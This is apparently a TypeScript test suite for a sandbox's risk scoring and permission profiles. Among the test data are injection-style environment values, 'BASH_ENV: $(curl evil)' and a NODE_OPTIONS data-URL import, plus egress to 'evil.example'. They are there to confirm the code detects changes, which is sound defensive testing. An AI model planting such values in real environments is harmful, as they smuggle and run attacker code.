import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import type { JobSpecV1 } from '../../src/api/types.js';
import { isAirlockError } from '../../src/errors.js';
import { factsOfSpec } from '../../src/policy/facts.js';
import {
  DEFAULT_PROFILE,
  exceeded,
  formatProfile,
  parseProfile,
  suggestProfile,
} from '../../src/policy/profile.js';
import { aboveHistory, RECENT_KEY_MS, RISK_WEIGHTS, riskOf, scriptDigestOf } from '../../src/policy/risk.js';

const NOW = Date.UTC(2026, 10, 29);
const base = {
  signed: true,
  keyCreatedAt: NOW - 30 * 24 * 3600 * 1000,
  now: NOW,
  scriptSeenBefore: true,
  environment: 'dev',
  egress: 0,
  secrets: 0,
  resourcesAboveHistory: false,
  originSeenBefore: null as boolean | null,
  imageApproved: null as boolean | null,
};

describe('risk score', () => {
  test('a signed, known script by an old key in dev scores 0', () => {
    assert.deepEqual(riskOf(base), { score: 0, factors: [] });
  });

  test('each factor adds its documented weight', () => {
    const cases: Array<[Partial<typeof base>, keyof typeof RISK_WEIGHTS]> = [
      [{ signed: false }, 'unsigned'],
      [{ keyCreatedAt: NOW - RECENT_KEY_MS + 1 }, 'new-key'],
      [{ scriptSeenBefore: false }, 'new-script'],
      [{ environment: 'prod' }, 'prod'],
      [{ egress: 1 }, 'egress'],
      [{ secrets: 2 }, 'secrets'],
      [{ resourcesAboveHistory: true }, 'resources-above-history'],
      [{ originSeenBefore: false }, 'new-origin'],
      [{ imageApproved: false }, 'unapproved-image'],
    ];
    for (const [change, factor] of cases)
      assert.deepEqual(
        riskOf({ ...base, ...change }),
        { score: RISK_WEIGHTS[factor], factors: [factor] },
        factor,
      );
  });

  test('an unsigned new script in dev scores 45: below the default gvisor threshold (60)', () => {
    assert.equal(riskOf({ ...base, signed: false, scriptSeenBefore: false }).score, 45);
  });

  test('host and an approved image add nothing; an unsigned first run of an unapproved image scores 60 (gvisor)', () => {
    assert.deepEqual(riskOf({ ...base, imageApproved: true }), { score: 0, factors: [] });
    assert.deepEqual(riskOf({ ...base, imageApproved: null }), { score: 0, factors: [] });
    const unapproved = riskOf({ ...base, signed: false, scriptSeenBefore: false, imageApproved: false });
    assert.equal(unapproved.score, 60);
    assert.deepEqual(unapproved.factors, ['unsigned', 'new-script', 'unapproved-image']);
  });

  test('the score is capped at 100', () => {
    const all = riskOf({
      ...base,
      signed: false,
      scriptSeenBefore: false,
      environment: 'prod',
      egress: 1,
      secrets: 1,
      resourcesAboveHistory: true,
      originSeenBefore: false,
      imageApproved: false,
    });
    assert.equal(all.score, 100);
    assert.equal(all.factors.length, 8);
  });

  test('the script digest covers command, inputs, image and env names, the values only of code-changing env', () => {
    const spec: JobSpecV1 = {
      version: 1,
      project: 'web',
      command: ['make'],
      inputs: [{ path: 'a', content: 'x' }],
    };
    const digest = scriptDigestOf(spec);
    assert.match(digest, /^sha256:[0-9a-f]{64}$/);
    assert.equal(scriptDigestOf({ ...spec, resources: { memoryMiB: 64 } }), digest);
    // Names of environment variables count; values only of those that change which code runs.
    const withEnv = scriptDigestOf({
      ...spec,
      env: { BUILD: '1', NODE_OPTIONS: '--max-old-space-size=512' },
    });
    assert.notEqual(withEnv, digest);
    assert.equal(
      scriptDigestOf({ ...spec, env: { BUILD: '2', NODE_OPTIONS: '--max-old-space-size=512' } }),
      withEnv,
    );
    assert.notEqual(
      scriptDigestOf({ ...spec, env: { BUILD: '1', NODE_OPTIONS: '--import=data:text/javascript,evil' } }),
      withEnv,
    );
    assert.notEqual(scriptDigestOf({ ...spec, env: { BASH_ENV: '$(curl evil)' } }), digest);
    assert.notEqual(scriptDigestOf({ ...spec, command: ['make', 'all'] }), digest);
    assert.notEqual(scriptDigestOf({ ...spec, inputs: [{ path: 'a', content: 'y' }] }), digest);
  });

  test('resources far above the history need a history of 5 jobs and 4× the median', () => {
    const usual = factsOfSpec({ version: 1, project: 'p', command: ['x'] }, null).resources;
    const big = { ...usual, memoryMiB: usual.memoryMiB * 4 + 1 };
    assert.equal(aboveHistory(big, [usual, usual, usual, usual]), false, 'too little history');
    assert.equal(aboveHistory(big, [usual, usual, usual, usual, usual]), true);
    assert.equal(aboveHistory({ ...usual, memoryMiB: usual.memoryMiB * 4 }, Array(5).fill(usual)), false);
  });
});

describe('permission profiles', () => {
  const profile = parseProfile(
    JSON.stringify({
      runtimes: ['runc', 'gvisor'],
      resources: { memoryMiB: 1024, cpus: 1 },
      egress: ['registry.npmjs.org:443'],
      secrets: [],
    }),
  );

  test('a job within its profile exceeds nothing', () => {
    assert.deepEqual(exceeded(profile, factsOfSpec({ version: 1, project: 'p', command: ['x'] }, null)), []);
  });

  test('every exceeded item is named', () => {
    const facts = {
      ...factsOfSpec(
        {
          version: 1,
          project: 'p',
          command: ['x'],
          runtime: 'crun',
          resources: { memoryMiB: 2048, cpus: 2 },
        },
        null,
      ),
      egress: ['evil.example:443'],
      secrets: ['prod-db'],
    };
    const items = exceeded(profile, facts);
    assert.equal(items.length, 5);
    for (const part of [
      'runtime crun',
      'resources.memoryMiB 2048',
      'resources.cpus 2',
      'egress to evil.example:443',
      'secret prod-db',
    ])
      assert.ok(
        items.some((item) => item.startsWith(part)),
        part,
      );
  });

  test('the default profile grants every runtime and no egress or secrets', () => {
    assert.deepEqual([...DEFAULT_PROFILE.egress], []);
    assert.deepEqual([...DEFAULT_PROFILE.secrets], []);
    assert.equal(DEFAULT_PROFILE.runtimes.length, 3);
  });

  const bad: ReadonlyArray<[string, string]> = [
    ['not JSON', '{'],
    ['an array', '[]'],
    ['an unknown field', '{"network":"host"}'],
    ['an unknown runtime', '{"runtimes":["docker"]}'],
    ['a duplicate', '{"egress":["a.example:443","a.example:443"]}'],
    ['egress without a port', '{"egress":["a.example"]}'],
    ['a negative ceiling', '{"resources":{"memoryMiB":-1}}'],
    ['an unknown resource', '{"resources":{"gpus":1}}'],
  ];
  for (const [name, text] of bad)
    test(`refuses ${name}`, () => {
      assert.throws(
        () => parseProfile(text),
        (error: unknown) => isAirlockError(error, 'POLICY_INVALID'),
      );
    });

  test('formatting is stable: parse ∘ format is the identity on profiles', () => {
    fc.assert(
      fc.property(
        fc.subarray(['runc', 'crun', 'gvisor']),
        fc.uniqueArray(fc.constantFrom('a.example:443', '*.b.example:443', 'c.example:80')),
        fc.option(fc.integer({ min: 1, max: 65536 }), { nil: undefined }),
        (runtimes, egress, memoryMiB) => {
          const text = formatProfile(
            parseProfile(
              JSON.stringify({ runtimes, egress, resources: memoryMiB === undefined ? {} : { memoryMiB } }),
            ),
          );
          assert.equal(formatProfile(parseProfile(text)), text);
        },
      ),
    );
  });

  test('suggest: the smallest profile covering the runs, and the grants nobody used', () => {
    const runs = [
      factsOfSpec({ version: 1, project: 'p', command: ['a'], resources: { memoryMiB: 300 } }, null),
      factsOfSpec(
        { version: 1, project: 'p', command: ['b'], runtime: 'gvisor', resources: { memoryMiB: 200 } },
        null,
      ),
    ];
    const suggestion = suggestProfile(runs, profile);
    assert.equal(suggestion.runs, 2);
    assert.deepEqual(suggestion.profile.runtimes, ['gvisor', 'runc']);
    assert.equal(suggestion.profile.resources.memoryMiB, 300);
    assert.deepEqual(suggestion.profile.egress, []);
    assert.ok(suggestion.unused.includes('egress registry.npmjs.org:443'));
    assert.ok(suggestion.unused.some((item) => item.startsWith('resources.memoryMiB 1024')));
    for (const run of runs)
      assert.deepEqual(exceeded(suggestion.profile, run), [], 'the suggestion covers every run');
  });
});
